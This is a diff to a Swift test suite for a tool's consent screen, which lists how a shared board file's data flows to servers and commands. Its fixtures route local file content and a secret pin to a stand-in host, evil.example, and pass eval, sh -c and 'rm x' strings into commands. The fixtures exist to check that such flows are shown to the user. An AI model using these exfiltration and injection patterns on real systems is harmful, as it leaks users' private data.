@@ -116,7 +116,8 @@ struct FlowConsentTests {
         #expect(try flows("https://e.example/login", "https://e.example:444/x?t=${source.a.t}") == 1)
         #expect(try flows("https://e.example/login", "http://e.example/x?t=${source.a.t}") == 1)
         #expect(try flows("https://e.example/login", "https://api.e.example/x?t=${source.a.t}") == 1)
-        #expect(try flows("https://e.example/login", "${source.a.next}") == 1)
+        // An unknown host may be private, and can have the login loaded again.
+        #expect(try flows("https://e.example/login", "${source.a.next}") == 2)
     }
 
     @Test("Items of a source count as its content; items listed in the file need no line")
@@ -138,7 +139,6 @@ struct FlowConsentTests {
             "http: 'https://e.example/c', select: '$source.h'",
             "http: 'https://e.example/c', select: '$row.h'",
             "http: 'https://e.example/c', select: '$var.v'",
-            "http: 'https://e.example/c', title: '${source.h}'",
             "http: 'https://e.example/c', title: '${row.h.a}'",
             "http: 'https://e.example/c', alert: { when: '$source.h' }",
             "http: 'https://e.example/c', alert: { when: '$var.v', watch: all }",
@@ -176,19 +176,121 @@ struct FlowConsentTests {
         #expect(texts == ["f (file ./x) → https://e.example, in the URL"])
     }
 
-    @Test("Content that a title of a derived source waits for decides the times of loads that wait for the source")
-    func titles() throws {
+    @Test(
+        "Content that decides whether a source is loaded is shown with each server that the source needs",
+        arguments: [
+            "g: { file: x, select: '[$source.bit, $source.f]' }",
+            "g: { from: f, select: '$var.v' }",
+            "g: { from: f, select: '$row.bit' }",
+            "g: { from: f, title: '${row.bit.a}' }",
+            "g: { from: [f, x], needs: any, select: '[., $row.bit]' }",
+            "g: { file: x, each: { i: { source: bit } }, select: '[., $source.f]' }",
+            "g: { file: '~/x${row.bit.k}', select: '$source.f' }",
+            "g: { file: '${source.bit.k}', select: '$source.f' }",
+            "g: { command: ls, env: { A: '${source.bit}', B: '${source.f}' } }",
+        ])
+    func demand(taker: String) throws {
+        let (board, problems) = readBoard(
+            """
+            variables: { v: { source: bit } }
+            sources:
+              s: { file: ~/one.json }
+              x: { file: x }
+              bit: { from: s, select: 'if . == 1 then . else error end' }
+              f: { http: 'http://evil.example/bit0', every: never }
+              \(taker)
+            pages: [{ title: p, rows: [g] }]
+            """, environment: ["HOME": "/home/me"])
+        #expect(problems.map(\.description) == [])
+        let flows = try #require(board).consentOfStranger.items.filter { $0.kind == .content }.map(\.text)
+        let line = "bit (file ~/one.json of s) → http://evil.example (not encrypted), in the number and times of loads"
+        #expect(flows.contains(line))
+    }
+
+    @Test("A private server can have the source of a credential loaded again, which is shown")
+    func renewal() throws {
         let texts = try flows(
             """
-              f: { file: x }
-              g: { file: y, title: '${source.f}' }
-              h: { http: 'https://e.example', select: '$source.g' }
+              f: { http: 'https://evil.example/' }
+              g: { http: 'http://10.0.0.1/', headers: { X-T: '${source.f.t}' } }
+              h: { http: 'https://e.example/', headers: { X-T: '${source.f.t}' } }
 
             """)
         #expect(
             texts == [
-                "g (file ./x of f) → https://e.example, in the number and times of loads",
-                "g (file ./y) → https://e.example, in the number and times of loads",
+                "f (https://evil.example) → http://10.0.0.1 (not encrypted), header X-T",
+                "f (https://evil.example) → https://e.example, header X-T",
+                "g (http://10.0.0.1) → https://evil.example, in the number and times of loads",
+            ])
+    }
+
+    @Test(
+        "Items, choices and initial texts of the file that become a part of an action are shown",
+        arguments: [
+            (
+                "a: { each: { i: [start, stop] }, http: 'http://10.0.0.1/${item.i}' }",
+                #"${item.i} (one of ["start","stop"]) → http://10.0.0.1 (not encrypted), in the URL"#
+            ),
+            (
+                "a: { each: { i: [{ k: x }] }, command: 'eval \"$X\"', env: { X: '${item.i.k}' } }",
+                #"${item.i.k} (one of [{"k":"x"}]) → command of a, variable X"#
+            ),
+            (
+                "a: { command: ls, on: '${var.host}' }",
+                "${var.host} (one of near, 'f a r') → command of a on ${var.host}, in the name of the host"
+            ),
+            (
+                "a: { http: 'https://e.example', method: POST, body: '${var.q}' }",
+                "${var.q} (typed text, initially 'a;b') → https://e.example, in the body"
+            ),
+            (
+                "a: { file: '~/${var.host}' }\n  b: { http: 'https://e.example/?${source.a}' }",
+                "${var.host} (one of near, 'f a r') → file ~/${var.host}, in the file"
+            ),
+            (
+                "a: { file: x, alert: { failed: 1, title: rm x, run: 'sh -c \"$SENTENCE\"' } }",
+                "title 'rm x' → command of an alert of a"
+            ),
+        ])
+    func values(sources: String, line: String) throws {
+        func texts(_ sources: String) throws -> [String] {
+            let (board, problems) = readBoard(
+                """
+                variables: { host: [near, f a r], q: { input: 'a;b' } }
+                sources:
+                  \(sources)
+                """, environment: ["HOME": "/home/me"])
+            #expect(problems.map(\.description) == [])
+            return try #require(board).consentOfStranger.items.map(\.text)
+        }
+        #expect(try texts(sources).filter { $0 == line }.count == 1)
+    }
+
+    @Test("Choices for which a key asks are shown")
+    func asked() throws {
+        let (board, _) = readBoard(
+            """
+            sources: { a: { file: x } }
+            keys: { E: { on: a, run: 'eval "$what"', ask: { what: { choices: [go, rm x] }, n: { text: N, default: d } } } }
+            """)
+        let texts = try #require(board).consentOfStranger.items.map(\.text)
+        #expect(texts.contains("what (one of go, 'rm x') → command of key E"))
+        #expect(texts.contains("n (typed text, initially d) → command of key E"))
+    }
+
+    @Test("A secret or variable that names the account is shown, because it decides which cached response is validated")
+    func account() throws {
+        let (board, _) = readBoard(
+            """
+            secrets: { t: { file: ~/pin } }
+            sources:
+              a: { http: 'https://e.example/a', account: '${secret.t}' }
+              b: { http: 'https://e.example/b', account: '${env.KEY}' }
+            """, environment: ["HOME": "/home/me", "KEY": "k"])
+        #expect(
+            try #require(board).consentOfStranger.items.map(\.text) == [
+                "t from file ~/pin → https://e.example, as the account",
+                "variable KEY → https://e.example, as the account",
             ])
     }
 
